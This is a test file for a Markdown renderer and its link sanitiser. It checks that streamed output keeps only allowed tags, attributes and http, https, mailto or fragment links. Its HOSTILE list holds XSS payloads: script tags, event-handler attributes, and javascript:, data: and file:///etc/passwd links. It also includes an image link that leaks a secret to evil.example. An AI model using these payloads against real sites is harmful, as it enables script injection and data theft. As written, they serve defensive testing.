import { describe, expect, test } from "vitest";
import { MarkdownWriter, safeLink } from "./markdown";

function render(text: string, step = text.length || 1): HTMLElement {
  const root = document.createElement("div");
  const writer = new MarkdownWriter(root);
  for (let at = 0; at < text.length; at += step) writer.write(text.slice(at, at + step));
  writer.end();
  return root;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<br onmouseover=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/api/v1/profile)",
  "[x](<javascript:alert(1)>)",
  '[x](javascript:alert(1) "title")',
  '[x](https://a.example/" onclick="alert(1))',
  "![x](javascript:alert(1))",
  "![x](https://evil.example/?leak=secret)",
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  "```<script>\nalert(1)\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | ![y](data:a) |\n",
  "$<script>alert(1)</script>$",
  "\\[\n<iframe src=javascript:alert(1)>\n\\]",
  "> # [x](javascript:alert(1))\n> - ![x](javascript:alert(1))",
];

const ELEMENTS =
  "a,p,h3,h4,h5,h6,code,em,strong,s,blockquote,br,hr,ul,ol,li,div,span,pre,button,input,table,thead,tbody,tr,th,td";
const ATTRIBUTES = new Set(
  "href rel target class type tabindex role aria-label start disabled checked".split(" "),
);

function expectHarmless(root: HTMLElement, source: string): void {
  for (const element of root.querySelectorAll("*")) {
    expect(ELEMENTS.split(","), source).toContain(element.localName);
    for (const { name } of element.attributes) expect(ATTRIBUTES, source).toContain(name);
    const href = element.getAttribute("href");
    if (href !== null) {
      expect(href, source).toMatch(/^(https?:\/\/|mailto:|#)/);
      expect(element.getAttribute("rel"), source).toBe("noopener noreferrer nofollow");
    }
  }
}

describe("the renderer of answers", () => {
  test.each(HOSTILE)("makes nothing that runs or loads out of %s", (source) => {
    for (const step of [1, 2, 3, 7, source.length]) expectHarmless(render(source, step), source);
  });

  test("keeps tags as text", () => {
    expect(render("<b>bold?</b>").textContent).toBe("<b>bold?</b>");
  });

  test("turns an image into a link that names it", () => {
    const link = render("![a cat](https://example.org/cat.png)").querySelector("a")!;
    expect(link.textContent).toBe("Image: a cat");
    expect(link.getAttribute("href")).toBe("https://example.org/cat.png");
  });

  test("gives brackets back that are no link", () => {
    expect(render("see [1] and list[0] and [refused](javascript:x)").textContent).toBe(
      "see [1] and list[0] and [refused]",
    );
  });

  test("shows the same wherever the text is cut", () => {
    const source =
      "# Title\n\nSome **bold** and *thin* `code`.\n\n1. one\n2. two\n   - deep\n\n```rust\nfn main() {}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\n- [x] done\n\n> quoted\n\nhttps://example.org/x and [y](https://example.org)\n";
    const whole = render(source).outerHTML;
    for (const step of [1, 2, 3, 5, 11]) expect(render(source, step).outerHTML).toBe(whole);
    expect(whole).toContain("<thead><tr><th>");
    expect(whole.match(/<tbody>/g)).toHaveLength(1);
    expect(whole).toContain('class="code-language">rust<');
  });

  test("shows as plain text what is nested too deeply, and loses nothing", () => {
    const source = `${"- ".repeat(200)}end ${"> ".repeat(200)}\n${"**_".repeat(300)}tail`;
    for (const step of [1, source.length]) {
      const root = render(source, step);
      expect(root.textContent).toContain("tail");
      expectHarmless(root, "deep");
    }
  });

  test("survives random Markdown", () => {
    let seed = 7;
    const pieces = "# |*|**|_|`|```|\n|[|](|)|![|](javascript:x)|https://a.b |- |1. |> |~~|$|\\[|\\]||||<br|>|<script>|word| |    |\t|\n\n".split("|");
    for (let round = 0; round < 400; round += 1) {
      let source = "";
      for (let index = 0; index < 60; index += 1) {
        seed = (seed * 1103515245 + 12345) % 2147483648;
        source += pieces[seed % pieces.length] || "|";
      }
      expectHarmless(render(source, 1 + (round % 5)), source);
    }
  });
});

describe("safe links", () => {
  test("are http, https, mailto and places on this page", () => {
    expect(safeLink("https://example.org/a?b#c")).toBe("https://example.org/a?b#c");
    expect(safeLink("mailto:a@example.org")).toBe("mailto:a@example.org");
    expect(safeLink("#part-2")).toBe("#part-2");
    expect(safeLink('https://example.org "title"')).toBe("https://example.org/");
  });

  test("are nothing else", () => {
    for (const target of ["javascript:x", "data:x", "", "x", "/x", "https://", "http:x", "#a b", "blob:x"]) {
      expect(safeLink(target), target).toBeUndefined();
    }
  });
});
